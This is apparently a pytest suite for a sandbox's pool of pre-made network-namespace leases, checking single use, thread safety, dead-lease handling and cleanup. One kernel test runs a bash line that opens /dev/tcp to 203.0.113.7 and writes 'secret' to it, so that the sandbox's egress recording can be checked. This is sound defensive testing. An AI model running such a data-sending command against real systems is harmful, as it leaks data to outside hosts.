"""Leases made ahead: each is used once, is never shared, and one that died while it waited is never handed out."""

from __future__ import annotations

import asyncio
import os
import threading

import leasewatch
import psutil
import pytest
from leasewatch import Watch, wait_for

import stockade
from stockade.netns import pool as pools
from stockade.netns.errors import LeaseFailed
from stockade.netns.lease import LeaseSpec
from stockade.sandbox import keeperlink

TYPE_CHECKING = False
if TYPE_CHECKING:
    from collections.abc import Iterator

# --- with leases that are none ------------------------------------------------------------------------------------


class Counterfeit:
    """Stands for a lease; knows what became of it."""

    made: list[Counterfeit]
    fail = False
    gate: threading.Event

    def __init__(self, spec, spawner, *, upstream=None):
        self.spec, self.spawner, self.upstream = spec, spawner, upstream
        self.life = ["made"]
        self.gone = ""
        Counterfeit.made.append(self)

    def start(self):
        self.life.append("started")

    def wait_ready(self):
        Counterfeit.gate.wait(10)
        if Counterfeit.fail:
            raise LeaseFailed("could not lease a network: nft: no", part="nft")
        self.life.append("ready")

    def lost(self):
        return self.gone

    def begin(self):
        self.life.append("begun")

    def close(self):
        self.life.append("closed")


@pytest.fixture
def made(monkeypatch):
    """Every lease that the pool made."""
    monkeypatch.setattr(pools, "Lease", Counterfeit)
    monkeypatch.setattr(pools, "REST", 0.0)
    Counterfeit.made, Counterfeit.fail, Counterfeit.gate = [], False, threading.Event()
    Counterfeit.gate.set()
    return Counterfeit.made


def spec(kind="record"):
    return LeaseSpec(
        kind, (), private=False, nft=None, site=None, connector="", program=None, as_caller=False, ids=(0, 0)
    )


def asked(kind="record", spawner="a spawner"):
    """What a run asks for, not among those that the pool made."""
    lease = Counterfeit(spec(kind), spawner)
    Counterfeit.made.remove(lease)
    return lease


def full(pool, count):
    wait_for(lambda: pool.ready() == count, f"{count} ready leases")


@pytest.mark.parametrize("size", [1, 2, 5])
def test_filled_after_the_first_run_and_emptied_at_the_end(made, size):
    threads = threading.active_count()
    with stockade.LeasePool(size) as pool:
        assert (pool.ready(), made) == (0, [])
        first = asked()
        assert pool.take(first) is first, "nobody knew what would be wanted"
        full(pool, size)
    assert [each.life for each in made] == [["made", "started", "ready", "closed"]] * size
    assert first.life == ["made"], "it is its taker's"
    assert threading.active_count() <= threads


def test_each_is_handed_out_once_and_replaced(made):
    with stockade.LeasePool(2) as pool:
        pool.take(asked())
        taken = []
        for _ in range(5):
            full(pool, 2)
            taken.append(pool.take(asked()))
        full(pool, 2)
    assert len({id(each) for each in taken}) == 5
    assert all(each.life == ["made", "started", "ready", "begun"] for each in taken)
    assert len(made) == 7


def test_threads_never_share_one(made):
    taken = []
    with stockade.LeasePool(4) as pool:
        pool.take(asked())
        full(pool, 4)
        threads = [threading.Thread(target=lambda: taken.append(pool.take(asked()))) for _ in range(20)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
    assert len({id(each) for each in taken}) == 20
    assert sum(each in made for each in taken) >= 4


@pytest.mark.parametrize(
    ("kind", "spawner"), [("allow", "a spawner"), ("record", "another spawner"), ("open", "another spawner")]
)
def test_what_differs_is_kept_apart(made, kind, spawner):
    with stockade.LeasePool(1) as pool:
        pool.take(asked())
        full(pool, 1)
        other = asked(kind, spawner)
        assert pool.take(other) is other
        full(pool, 2)
        found = pool.take(asked(kind, spawner))
        assert (found.spec, found.spawner) == (spec(kind), spawner)


def test_what_was_asked_for_longest_ago_makes_way(made):
    with stockade.LeasePool(1) as pool:
        for number in range(pools.KINDS + 1):
            pool.take(asked(spawner=number))
            full(pool, min(number + 1, pools.KINDS))
        wait_for(lambda: made[0].life[-1] == "closed", "end of the oldest")
        oldest = asked(spawner=0)
        assert pool.take(oldest) is oldest
        assert pool.take(asked(spawner=pools.KINDS)) in made


@pytest.mark.parametrize("dead", [1, 2, 3])
def test_dead_ones_are_closed_and_not_handed_out(made, dead):
    with stockade.LeasePool(3) as pool:
        pool.take(asked())
        full(pool, 3)
        waiting = list(made)
        for each in waiting[:dead]:
            each.gone = "holder"
        fresh = asked()
        found = pool.take(fresh)
        assert found is (fresh if dead == 3 else waiting[dead])
        assert [each.life[-1] for each in waiting[:dead]] == ["closed"] * dead
        full(pool, 3)


def test_failure_is_not_tried_again_until_a_run_asks(made):
    Counterfeit.fail = True
    with stockade.LeasePool(2) as pool:
        pool.take(asked())
        wait_for(lambda: pool._failing, "failure")
        assert [each.life for each in made] == [["made", "started", "closed"]]
        Counterfeit.fail = False
        pool.take(asked())
        full(pool, 2)
        assert len(made) == 3


def test_closed_while_one_is_being_made(made):
    Counterfeit.gate.clear()
    pool = stockade.LeasePool(1)
    pool.take(asked())
    wait_for(lambda: made and made[0].life[-1] == "started", "lease in the making")
    closer = threading.Thread(target=pool.close)
    closer.start()
    Counterfeit.gate.set()
    closer.join()
    assert made[0].life == ["made", "started", "ready", "closed"]
    late = asked()
    assert pool.take(late) is late
    assert len(made) == 1
    pool.close()


def test_forked_copy_has_none_of_them(made):
    with stockade.LeasePool(1) as pool:
        pool.take(asked())
        full(pool, 1)
        pool._owner += 1
        fresh = asked()
        assert pool.take(fresh) is fresh
        pool.close()
        assert made[0].life[-1] == "ready"
        pool._owner -= 1


@pytest.mark.parametrize("size", [0, -1])
def test_size_is_checked(size):
    with pytest.raises(stockade.RequestError, match=f"could not make a pool of {size} leases"):
        stockade.LeasePool(size)


# --- with real ones -----------------------------------------------------------------------------------------------


@pytest.fixture
def watch(monkeypatch) -> Iterator[Watch]:
    with leasewatch.place(os.environ.get("XDG_CACHE_HOME", os.path.expanduser("~/.cache"))) as place:
        monkeypatch.chdir(place.work)
        keeperlink.end_keeper()
        with leasewatch.subreaper():
            found = Watch()
            yield found
            keeperlink.end_keeper()
            found.assert_nothing_left(place)


OPTIONS = {"allow": {"allow": ["192.0.2.1"]}, "record": {"record_egress": True}}


def networks(watch):
    return {leasewatch.network_of(each.pid) for each in watch.holders()}


@pytest.mark.kernel
@pytest.mark.parametrize("kind", OPTIONS)
def test_runs_take_them_and_leave_nothing(watch, monkeypatch, kind):
    taken = []
    take = stockade.LeasePool.take
    monkeypatch.setattr(stockade.LeasePool, "take", lambda *given: taken.append(take(*given)) or taken[-1])
    with stockade.LeasePool(2) as pool:
        for number in range(6):
            if number:
                full(pool, 2)
                before = networks(watch)
            line = ["sh", "-c", "readlink /proc/self/ns/net; exit 3"]
            result = stockade.run(line, leases=pool, **OPTIONS[kind])
            assert (result.outcome, result.exit_code, result.egress, result.denials) == ("exited", 3, (), ())
            assert result.egress_dropped.packets == 0
            assert number == 0 or result.stdout.decode().strip() in before
    assert len(set(map(id, taken))) == 6, "never the same one twice"
    assert watch.holders() == [] or wait_for(lambda: not watch.holders(), "end of the holders")


@pytest.mark.kernel
def test_attempt_in_a_ready_lease_is_recorded_like_any_other(watch):
    script = ["bash", "-c", "exec 3<>/dev/tcp/203.0.113.7/8443; echo secret >&3"]
    fresh = stockade.run(script, **OPTIONS["record"])
    with stockade.LeasePool(1) as pool:
        stockade.run(["true"], leases=pool, **OPTIONS["record"])
        full(pool, 1)
        ready = stockade.run(script, leases=pool, **OPTIONS["record"])
    for result in (fresh, ready):
        (attempt,) = result.egress
        assert (attempt.address, attempt.port, attempt.protocol) == ("203.0.113.7", 8443, "tcp")
        assert attempt.data.startswith("secret")
        assert 0 <= attempt.first_seen <= result.duration + 1, "timed from the begin of its run"


@pytest.mark.kernel
@pytest.mark.parametrize(("kind", "part"), [("allow", "holder"), ("allow", "slirp4netns"), ("record", "holder")])
def test_dead_lease_is_not_handed_out(watch, kind, part):
    with stockade.LeasePool(1) as pool:
        stockade.run(["true"], leases=pool, **OPTIONS[kind])
        full(pool, 1)
        wait_for(lambda: len(watch.holders()) == 1, "the one that waits")
        process = watch.one(part)
        process.kill()
        wait_for(lambda: not leasewatch.is_alive(process), "end of it")
        result = stockade.run(["sh", "-c", "exit 3"], leases=pool, **OPTIONS[kind])
        assert (result.outcome, result.exit_code) == ("exited", 3), result.reason


@pytest.mark.kernel
def test_pool_outlives_its_keeper(watch):
    with stockade.LeasePool(1) as pool:
        stockade.run(["true"], leases=pool, **OPTIONS["record"])
        full(pool, 1)
        keeper = psutil.Process(keeperlink._link.pid)
        keeper.kill()
        wait_for(lambda: not leasewatch.is_alive(keeper), "end of it")
        for _ in range(2):
            result = stockade.run(["sh", "-c", "exit 3"], leases=pool, **OPTIONS["record"])
            assert (result.outcome, result.exit_code) == ("exited", 3), result.reason


@pytest.mark.kernel
def test_awaited_runs_take_them_too(watch):
    async def several(pool):
        line = ["sh", "-c", "readlink /proc/self/ns/net"]
        return await asyncio.gather(*(stockade.arun(line, leases=pool, **OPTIONS["record"]) for _ in range(6)))

    with stockade.LeasePool(3) as pool:
        results = asyncio.run(several(pool))
        assert [each.outcome for each in results] == ["exited"] * 6
        assert len({each.stdout for each in results}) == 6


@pytest.mark.kernel
def test_run_without_a_network_takes_none(watch):
    with stockade.LeasePool(1) as pool:
        assert stockade.run(["true"], leases=pool).outcome == "exited"
        assert stockade.run(["true"], leases=pool, trusted=True).outcome == "exited"
        assert pool.ready() == 0
        assert pool._filler is None
